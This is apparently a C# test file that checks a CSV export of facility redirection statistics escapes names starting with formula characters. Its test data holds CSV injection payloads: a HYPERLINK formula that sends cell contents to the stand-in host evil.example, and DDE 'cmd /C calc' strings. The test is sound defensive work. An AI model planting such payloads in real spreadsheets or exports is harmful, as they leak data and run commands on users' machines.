using Microsoft.Extensions.Time.Testing;
using nietras.SeparatedValues;
using Vigie.CommandPost.Continuity.Redirections;
using Vigie.CommandPost.Storage;

namespace Vigie.CommandPost.Tests.Continuity;

/// <summary>
/// The ARS statistics CSV names facilities that any member can create: a facility name that starts like a formula
/// must reach the spreadsheet as text (OWASP's leading characters: = + - @ tab CR, and their full-width forms).
/// </summary>
public sealed class RedirectionCsvTests
{
    private static readonly DateTimeOffset s_now = new(2024, 2, 11, 9, 0, 0, TimeSpan.Zero);

    public static TheoryData<DatabaseKind> Kinds => new(DatabaseKind.Sqlite, DatabaseKind.PostgreSql);

    private static readonly string[] s_names =
    [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"CHU\")",
        "=0+HYPERLINK(\"http://evil.example\")",
        "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "＝1+1",
        "－1+1",
    ];

    [Theory, MemberData(nameof(Kinds))]
    public async Task ExportCsv_WhenAFacilityNameStartsLikeAFormula_NoCellStartsWithAFormulaCharacter(DatabaseKind kind)
    {
        var time = new FakeTimeProvider(s_now);
        await using var s = await ContinuityServices.CreateAsync(kind, time);
        var incident = await s.NewIncidentAsync();
        var site = await s.NewSiteAsync();
        var minute = 0;
        foreach (var name in s_names)
        {
            var facility = await s.NewFacilityAsync(name, 50.6 + minute * 0.001, 3.0);
            var created = await s.Redirections.CreateAsync(incident.Id, new NewRedirection(site.Id, s_now.AddMinutes(-30 + minute++), "J.D.", 1961, "homme",
                "Douleur", 3, true, null, facility.Id, "ambulance"), "accueil");
            Assert.True(created.IsOk, created.Problem?.Message);
        }

        var csv = await s.Redirections.ExportCsvAsync(incident.Id, "observateur");
        using var reader = Sep.New(';').Reader(o => o with { Unescape = true }).FromText(csv);
        var destinations = new List<string>();
        foreach (var row in reader)
        {
            for (var i = 0; i < row.ColCount; i++)
            {
                var cell = row[i].ToString();
                Assert.False(cell.Length > 0 && cell[0] is '=' or '+' or '-' or '@' or '\t' or '\r' or '＝' or '＋' or '－' or '＠',
                    $"a cell starts with a formula character: {cell}");
            }

            destinations.Add(row["destination"].ToString());
        }

        // The names are still there, behind an apostrophe that spreadsheets show as text.
        Assert.Equal(s_names.Select(n => "'" + n).Order(StringComparer.Ordinal), destinations.Order(StringComparer.Ordinal));
    }
}
